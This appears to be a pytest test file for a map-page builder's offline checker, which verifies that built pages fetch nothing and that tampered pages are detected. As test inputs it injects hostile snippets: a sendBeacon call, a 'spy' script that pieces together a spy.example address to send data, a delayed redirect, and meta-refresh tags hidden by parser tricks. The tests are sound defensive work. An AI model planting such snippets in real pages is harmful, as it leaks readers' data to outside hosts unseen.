"""A finished page makes no request; a page that was tampered with is found out."""

from __future__ import annotations

import os
import re
from pathlib import Path

import pytest

from itinerarium.assets.packed import PACKED_SCRIPT, packed
from itinerarium.build import build
from itinerarium.cli import main
from itinerarium.headless.chromium import find_chromium
from itinerarium.offline import prove
from itinerarium.offline.page import problems_of_page
from itinerarium.offline.scan import scan
from itinerarium.offline.visit import visit
from itinerarium.page.html import content_security_policy
from itinerarium.problems.report import to_text
from itinerarium.vocabulary.errors import BrowserError
from tests.stories import write_story

SCRIPT, STYLE = "<script>draw()</script>", "<style>p { color: red }</style>"
POLICY = content_security_policy(SCRIPT + STYLE)


@pytest.fixture(scope="module")
def page(tmp_path_factory: pytest.TempPathFactory) -> str:
    """A small story's page."""
    folder = write_story(tmp_path_factory.mktemp("story"), {})
    return build(folder, folder / "output").path.read_text(encoding="utf-8")


def small_page(body: str = "", policy: str = POLICY, head: str = STYLE) -> str:
    return (
        f'<html><head>\n<meta http-equiv="Content-Security-Policy" content="{policy}">\n'
        f"{head}</head><body>\n{body}\n{SCRIPT}</body></html>"
    )


def told(html: str) -> str:
    return to_text(problems_of_page("index.html", scan(html)))


def first_lines(html: str) -> list[str]:
    return [line for line in told(html).splitlines() if line.startswith("index.html")]


def test_a_built_page_has_nothing_to_fetch(page: str) -> None:
    assert told(page) == ""


def test_the_shipped_page_has_nothing_to_fetch(shipped_page: Path) -> None:
    assert told(shipped_page.read_text(encoding="utf-8")) == ""


def test_a_small_page_of_ours_has_nothing_to_fetch() -> None:
    harmless = (
        '<a href="https://example.org/" rel="noopener">a link is asked for by the reader</a>'
        '<img src="data:image/png;base64,AA"><svg><use href="#sign"/></svg>'
        '<link rel="canonical" href="https://example.org/"><p style="color: red">'
        '<script type="application/json">{"a": "https://example.org/x.js"}</script>'
        "<p>url(https://example.org) &lt;script src=x></p>"
    )
    style = "<style>p { color: red }</style>"
    assert told(small_page(harmless, head=style)) == ""


@pytest.mark.parametrize(
    ("body", "what"),
    [
        ('<img src="https://a.example/x.png">', '<img src="https://a.example/x.png">'),
        ("<IMG SRC=//a.example/x>", '<img src="//a.example/x">'),
        ('<img src="x.png">', '<img src="x.png">'),
        ('<img srcset="x.png 2x">', '<img srcset="x.png 2x">'),
        ('<iframe srcdoc="<p>"></iframe>', '<iframe srcdoc="<p>">'),
        ('<link rel="preload" href="x">', '<link href="x">'),
        ('<link rel="dns-prefetch" href="//a.example">', '<link href="//a.example">'),
        ('<svg><image xlink:href="x.png"/></svg>', '<image xlink:href="x.png">'),
        ('<video poster="x.png"></video>', '<video poster="x.png">'),
        ('<object data="x.swf"></object>', '<object data="x.swf">'),
        ('<a href="/" ping="https://a.example">x</a>', '<a ping="https://a.example">'),
        ('<form action="https://a.example">', '<form action="https://a.example">'),
        (
            '<meta http-equiv="refresh" content="0; url=/x">',
            '<meta http-equiv="0; url=/x">',
        ),
        ('<p style="background: url(x.png)">', '"url(x.png)" in a style'),
    ],
)
def test_whatever_fetches_is_found_where_it_stands(body: str, what: str) -> None:
    column = body.casefold().index(what.split()[0].casefold()) + 1 if what[0] == "<" else 1
    assert told(small_page(body)) == (
        f"index.html:4:{column} P904 expected nothing that is fetched, instead got {what}\n"
        "    = help: embed it as a data: address, or remove it\n"
    )


@pytest.mark.parametrize(
    ("css", "found"),
    [
        ("@import 'x.css'; p {}", "@import 'x.css'"),
        ("p { background: url( 'https://a.example/?(1)' ) }", "url( 'https://a.example/?(1)"),
        ("p { background: image-set('https://a.example/x' 1x) }", "https://a.example/x"),
        ("@font-face { src: URL(x.woff2) }", "URL(x.woff2)"),
    ],
)
def test_a_style_may_hold_data_only(css: str, found: str) -> None:
    ours = "a { b: url(data:image/png;base64,AA==); c: url('#d') } /* url(comment.png) */"
    style = f"<style>{ours}{css}</style>"
    [line] = first_lines(small_page(head=style, policy=content_security_policy(SCRIPT + style)))
    assert line.startswith(
        f'index.html:3:1 P904 expected nothing that is fetched, instead got "{found}'
    )


@pytest.mark.parametrize(
    ("policy", "line"),
    [
        (
            POLICY.replace("default-src 'none'", "default-src *"),
            "index.html:2:1 P902 expected default-src to be 'none', instead got *",
        ),
        (
            POLICY.replace("; base-uri 'none'", ""),
            "index.html:2:1 P902 expected base-uri to be 'none', instead got nothing",
        ),
        (
            POLICY.replace("img-src data:", "img-src data: https://a.example"),
            "index.html:2:1 P902 expected img-src to be 'none' data: blob:, "
            "instead got https://a.example",
        ),
        (
            POLICY + "; connect-src 'self'",
            "index.html:2:1 P902 expected connect-src to be 'none', instead got 'self'",
        ),
        (
            POLICY.replace("script-src", "script-src 'unsafe-inline'"),
            "index.html:2:1 P902 expected script-src to be the hash of each script in the page "
            "and nothing else, instead got 'unsafe-inline'",
        ),
        (
            POLICY.replace("style-src", f"style-src 'sha256-{'A' * 43}='"),
            "index.html:2:1 P902 expected style-src to be the hash of each style in the page "
            "and nothing else, instead got the hash of none",
        ),
    ],
)
def test_a_policy_that_allows_more_is_found(policy: str, line: str) -> None:
    assert first_lines(small_page(policy=policy)) == [line]


def test_a_page_without_a_policy_or_with_a_late_one_is_found() -> None:
    assert first_lines("<html><p>Hello") == [
        "index.html P901 expected a content security policy as the first thing in the page, "
        "instead got none"
    ]
    late = small_page().replace("<head>\n", "<head>\n<title>T</title>")
    assert first_lines(late) == [
        "index.html:2:17 P901 expected a content security policy as the first thing in the page, "
        "instead got one that stands after <title>"
    ]


def test_a_script_that_was_changed_is_found(page: str) -> None:
    changed = page.replace(
        "Itinerarium.createMap(", "navigator.sendBeacon('//a');Itinerarium.createMap("
    )
    assert [line[line.index(" ") :] for line in first_lines(changed)] == [
        " P903 expected a script whose hash script-src names, instead got another one",
        " P902 expected script-src to be the hash of each script in the page and nothing else, "
        "instead got the hash of none",
    ]


@pytest.mark.parametrize("other", [packed("navigator.sendBeacon('//a')"), "H4sI", "not base64!"])
def test_a_packed_script_that_was_changed_is_found(page: str, other: str) -> None:
    found = re.search(rf'type="{PACKED_SCRIPT}" id="[^"]*">([^<]+)<', page)
    assert found is not None
    lines = first_lines(page.replace(found[1], other))
    assert [line.split(" ")[1] for line in lines] == ["P903", "P902"]


@pytest.mark.browser
def test_the_command_says_that_a_finished_page_asks_nobody(
    page: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "index.html"
    path.write_text(page, encoding="utf-8")
    before = path.stat().st_mtime_ns
    words = ["build", "--check-only-offline", "--output", str(tmp_path)]
    assert main(words) == 0
    said = capsys.readouterr()
    assert said.err == ""
    assert said.out.splitlines() == [
        f"{path}  makes no request",
        "  read: nothing is fetched; the policy names scripts (4) and styles (1)",
        "  opened in chromium, 6 views: no request",
    ]
    assert path.stat().st_mtime_ns == before


@pytest.mark.browser
def test_a_page_that_asks_in_secret_is_caught_in_the_act(
    page: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Its script makes addresses from pieces, and waits for the reader, or for half a minute."""
    spy = (
        "<script>addEventListener('hashchange', () => "
        "fetch('https:' + '//spy.example/?' + location.hash.length));"
        "setTimeout(() => { location = 'https:' + '//late.example/'; }, 30_000)</script>"
        "<svg><style><img src='only-browsers-see.png'></style></svg>"
    )
    start = page.index("<meta http-equiv")
    without_policy = page[:start] + page[page.index(">", start) + 1 :]
    path = tmp_path / "index.html"
    path.write_text(without_policy.replace("</body>", spy + "</body>"), encoding="utf-8")
    assert main(["build", "--check-only-offline", "--output", str(tmp_path)]) == 1
    said = capsys.readouterr()
    assert said.out.splitlines()[0] == f"{path}  makes requests"
    assert 'got <img src="only-browsers-see.png">' in said.err
    assert 'got one to "https://late.example/"' in said.err
    asked = [line for line in said.err.splitlines() if "spy.example" in line]
    assert asked[0] == (
        'index.html P905 expected no request, instead got one to "https://spy.example/?5"'
    )


@pytest.mark.browser
def test_a_page_that_an_error_stops_is_never_said_to_make_no_request(
    page: str, tmp_path: Path
) -> None:
    changed = page.replace("Itinerarium.createMap(", "Gone.createMap(")
    html = with_own_policy(changed)
    assert told(html) == ""
    (tmp_path / "index.html").write_text(html, encoding="utf-8")
    proof = prove(tmp_path / "index.html")
    assert proof.lines[0].endswith("index.html  is broken")
    assert [one.code for one in proof.problems] == ["P906"]
    assert "Gone is not defined" in proof.problems[0].message


def with_own_policy(html: str) -> str:
    """A page whose policy names the scripts and styles that it now has."""
    start = html.index('<meta http-equiv="Content-Security-Policy"')
    end = html.index(">", start) + 1
    bare = html[:start] + html[end:]
    policy = content_security_policy(bare)
    meta = f'<meta http-equiv="Content-Security-Policy" content="{policy}">'
    return html[:start] + meta + html[end:]


@pytest.mark.parametrize("html", ["", "<p>Hello", small_page().replace(SCRIPT, "")])
def test_a_page_without_a_script_is_broken(html: str, tmp_path: Path) -> None:
    (tmp_path / "index.html").write_text(html, encoding="utf-8")
    proof = prove(tmp_path / "index.html")
    assert proof.lines == (f"{tmp_path / 'index.html'}  is broken",)
    assert (
        "index.html P906 expected a page that draws its map, instead got no script in it"
        in to_text(proof.problems)
    )


REFRESH = '<meta http-equiv="refresh" content="0;url=//a.example">'


@pytest.mark.parametrize(
    "body",
    [
        f"<!-->{REFRESH}<!-- -->",
        f"<!-- --!>{REFRESH}<!-- -->",
        f"<title><!--</title>{REFRESH}-->",
        f"<textarea><script></textarea>{REFRESH}</script>",
        REFRESH.replace("refresh", "refresh "),
        REFRESH.replace("refresh", "Refresh"),
    ],
)
def test_what_only_some_programs_see_is_found(body: str) -> None:
    assert "P904" in told(small_page(body))


@pytest.mark.browser
def test_a_script_that_the_policy_does_not_name_asks_for_nothing(page: str, tmp_path: Path) -> None:
    spy = "<script>fetch('https://spy.example/')</script>"
    path = tmp_path / "index.html"
    path.write_text(page.replace("</body>", spy + "</body>"), encoding="utf-8")
    assert visit(path, find_chromium()).requests == ()


@pytest.mark.browser
def test_a_page_that_goes_elsewhere_is_told_and_not_the_browser(page: str, tmp_path: Path) -> None:
    path = tmp_path / "index.html"
    refresh = REFRESH.replace("//a.example", "about:blank")
    path.write_text(page.replace("<body>", f"<body><!-- --!>{refresh}<!-- -->"), encoding="utf-8")
    told_of = to_text(prove(path).problems)
    assert "P904" in told_of
    assert "the page goes elsewhere by itself" in told_of


def test_a_page_that_is_not_there_is_one_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["build", "--check-only-offline", "--output", str(tmp_path)]) == 2
    assert capsys.readouterr() == (
        "",
        f"make_map.py: cannot read {tmp_path}/index.html: No such file or directory; "
        "build it first\n",
    )


def test_without_a_browser_the_page_is_read_only(
    page: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def none() -> Path:
        raise BrowserError("none")

    monkeypatch.setattr("itinerarium.offline.proof.find_chromium", none)
    (tmp_path / "index.html").write_text(page, encoding="utf-8")
    proof = prove(tmp_path / "index.html")
    assert (proof.problems, proof.lines[-1]) == (
        (),
        "  not opened: no Chromium, Chrome or Edge was found",
    )


def with_online_map(folder: Path, settings: str) -> str:
    story = write_story(folder, {"story.toml": f"[today]\n{settings}\n"})
    return build(story, folder / "output", page_only=True).path.read_text(encoding="utf-8")


def test_a_page_with_todays_map_may_ask_its_host_for_pictures_and_no_other(tmp_path: Path) -> None:
    page = with_online_map(tmp_path, 'source = "OpenTopoMap"')
    host = "https://a.tile.opentopomap.org"
    assert f"img-src data: {host};" in page
    assert told(page) == ""
    assert "P902 expected img-src" in told(page.replace(f"data: {host};", f"data: {host} *;", 1))
    assert "P902 expected img-src" in told(page.replace('"onlineMap"', '"another"', 1))


@pytest.mark.browser
def test_the_proof_tells_of_todays_map_and_what_it_asks_for(tmp_path: Path) -> None:
    with_online_map(tmp_path, 'source = "OpenTopoMap"')
    path = tmp_path / "output" / "index.html"
    proof = prove(path)
    assert proof.problems == ()
    assert proof.lines[0] == (
        f"{path}  makes no request until today's map is switched on, "
        "then asks a.tile.opentopomap.org"
    )
    assert "no request; with today's map on: " in proof.lines[-1]


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no pipes with names here")
def test_a_pipe_in_the_place_of_the_page_is_told(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    os.mkfifo(tmp_path / "index.html")
    assert main(["build", "--check-only-offline", "--output", str(tmp_path)]) == 2
    assert "it is no file; build it first" in capsys.readouterr().err
